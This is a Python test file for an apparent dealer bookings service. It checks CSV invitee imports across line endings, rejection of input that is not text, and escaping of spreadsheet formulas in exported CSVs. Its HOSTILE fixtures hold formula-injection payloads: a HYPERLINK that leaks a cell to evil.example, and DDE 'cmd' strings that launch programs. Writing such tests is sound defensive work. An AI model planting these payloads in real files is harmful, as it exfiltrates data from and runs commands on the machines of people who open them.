"""Dealers' CSV files (issue 11, findings 6 and 9): invitee imports read with any line ends
(Excel's "CSV (Macintosh)" ends lines with CR alone) over the API and the CLI, what is not CSV
text refused with a problem, and formulas in invitees' and guests' names neutralised in
`invitees.csv` and in `bookings.csv` (API and the dealer portal)."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from fastapi.testclient import TestClient
from sqlalchemy import func, select
from sqlalchemy.orm import Session

from paddock.bookings import service as bookings
from paddock.dealers import service
from paddock.dealers.models import Invitee
from tests.auth import sign_in
from tests.bookings.test_cli import runner_for
from tests.dealers.conftest import make_dealer_world, scope_of
from tests.dealers.test_invitations import NOW
from tests.factories import MONDAY, at

LINES = ["name,email,phone", "Ann Lee,ann@example.com,", '"Lee, Bob",bob@example.com,']
ENDS = pytest.mark.parametrize("end", ["\n", "\r\n", "\r"], ids=["LF", "CRLF", "CR"])
HOSTILE = {
    "h1@example.com": '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "h2@example.com": "@SUM(1+1)*cmd|' /C calc'!A0",
    "h3@example.com": "=cmd|' /C calc'!A0",
    "h4@example.com": "+1+cmd|' /C calc'!A0",
    "h5@example.com": "-2+3+cmd|' /C calc'!A0",
}


def _invitees(session: Session) -> list[str]:
    session.rollback()
    return list(session.scalars(select(Invitee.name).order_by(Invitee.id)))


def _import(client: TestClient, campaign: int, data: bytes) -> object:
    return client.post(
        f"/api/v1/campaigns/{campaign}/invitees/import?commit=true",
        content=data,
        headers={"Content-Type": "text/csv"},
    )


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _no_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row


@ENDS
def test_invitee_import_over_http_reads_any_line_end(
    client: TestClient, session: Session, end: str
) -> None:
    dw = make_dealer_world(session)
    sign_in(client, session, "dealer", dealer=dw.north.code)
    data = b"\xef\xbb\xbf" + (end.join(LINES) + end).encode()
    answer = _import(client, dw.campaign.id, data)
    assert answer.status_code == 201, answer.text  # type: ignore[attr-defined]
    assert answer.json()["written"] == 2  # type: ignore[attr-defined]
    assert _invitees(session) == ["Ann Lee", "Lee, Bob"]


@pytest.mark.parametrize(
    ("data", "says"),
    [
        (b"name,email\r\nAnn \xe9,ann@example.com\r\n", "not UTF-8 text"),
        (b"name,email\rAnn\x00Lee,ann@example.com\r", "NUL character on line 2"),
        (b"PK\x03\x04\x14\x00\x06\x00\x08\x00", "an Excel workbook (.xlsx)"),
        (b'name,email\rAnn,"ann@example.com\rBob,bob@example.com\r', "a quote is left open"),
    ],
)
def test_what_is_not_csv_text_is_a_problem_and_writes_nothing(
    client: TestClient, session: Session, data: bytes, says: str
) -> None:
    dw = make_dealer_world(session)
    sign_in(client, session, "dealer", dealer=dw.north.code)
    answer = _import(client, dw.campaign.id, data)
    assert answer.status_code == 422  # type: ignore[attr-defined]
    assert answer.headers["content-type"] == "application/problem+json"  # type: ignore[attr-defined]
    assert says in answer.json()["detail"]  # type: ignore[attr-defined]
    assert _invitees(session) == []


@ENDS
def test_invitee_import_from_the_cli_reads_any_line_end(
    session: Session, database_url: str, tmp_path: Path, end: str
) -> None:
    dw = make_dealer_world(session)
    path = tmp_path / "invitees.csv"
    path.write_bytes((end.join(LINES) + end).encode())
    run = runner_for(database_url)
    done = run("invitations", "import", str(path), "--campaign", str(dw.campaign.id), "--commit")
    assert done.exit_code == 0, done.output
    assert "imported 2 invitee(s)" in done.output
    assert _invitees(session) == ["Ann Lee", "Lee, Bob"]


def test_invitee_import_from_the_cli_refuses_what_is_not_text(
    session: Session, database_url: str, tmp_path: Path
) -> None:
    dw = make_dealer_world(session)
    path = tmp_path / "invitees.csv"
    path.write_bytes(b"name,email\rAnn \xff Lee,ann@example.com\r")
    run = runner_for(database_url)
    refused = run("invitations", "import", str(path), "--campaign", str(dw.campaign.id))
    assert refused.exit_code != 0
    assert "not UTF-8 text (byte 16, line 2)" in str(refused.exception)


def test_formulas_in_invitees_are_neutralised_in_invitees_csv(
    client: TestClient, session: Session
) -> None:
    dw = make_dealer_world(session)
    sign_in(client, session, "dealer", dealer=dw.north.code)
    body = io.StringIO()
    writer = csv.writer(body, lineterminator="\r")  # as Excel for Mac saves it
    writer.writerow(["name", "email", "phone", "note"])
    for email, name in HOSTILE.items():
        writer.writerow([name, email, "+1 404 555 0101", "=1+1"])
    answer = _import(client, dw.campaign.id, body.getvalue().encode())
    assert answer.status_code == 201, answer.text  # type: ignore[attr-defined]
    assert _invitees(session) == list(HOSTILE.values())  # stored as given
    exported = client.get(f"/api/v1/campaigns/{dw.campaign.id}/invitees.csv")
    assert exported.status_code == 200
    rows = _cells(exported.text)
    assert rows[0][:4] == ["name", "email", "phone", "consent"]
    assert [r[0] for r in rows[1:]] == ["'" + name for name in HOSTILE.values()]
    assert {r[2] for r in rows[1:]} == {"'+1 404 555 0101"}
    assert {r[5] for r in rows[1:]} == {"'=1+1"}
    _no_formula(rows)


def test_formulas_in_guests_are_neutralised_in_bookings_csv(
    client: TestClient, session: Session
) -> None:
    dw = make_dealer_world(session)
    code = service.create_code(
        session,
        scope=scope_of(dw.north),
        campaign_id=dw.campaign.id,
        code="summer-gt-k47",
        max_uses=9,
    )
    invitee = service.add_invitee(
        session,
        scope=scope_of(dw.north),
        campaign_id=dw.campaign.id,
        name="@SUM(1+1)*cmd|' /C calc'!A0",
        email="sum@example.com",
    )
    names = list(HOSTILE.values())[:3]
    for hour, (name, with_code) in enumerate(
        zip(names, [code.code, code.code, invitee.code], strict=True)
    ):
        service.book_with_code(
            session,
            code=with_code,
            product_code="drive",
            starts_at=at(MONDAY, 9 + 2 * hour),
            guest=bookings.Guest(name, f"g{hour}@example.com"),
            now=NOW,
        )
    sign_in(client, session, "dealer", dealer=dw.north.code)
    for url in (f"/api/v1/dealers/{dw.north.code}/bookings.csv", "/dealer/bookings.csv"):
        exported = client.get(url)
        assert exported.status_code == 200, (url, exported.text)
        rows = _cells(exported.text)
        guest, invitee_column = rows[0].index("guest_name"), rows[0].index("invitee")
        assert sorted(r[guest] for r in rows[1:]) == sorted("'" + n for n in names), url
        assert "'@SUM(1+1)*cmd|' /C calc'!A0" in [r[invitee_column] for r in rows[1:]]
        _no_formula(rows)
    assert session.scalar(select(func.count()).select_from(Invitee)) == 1
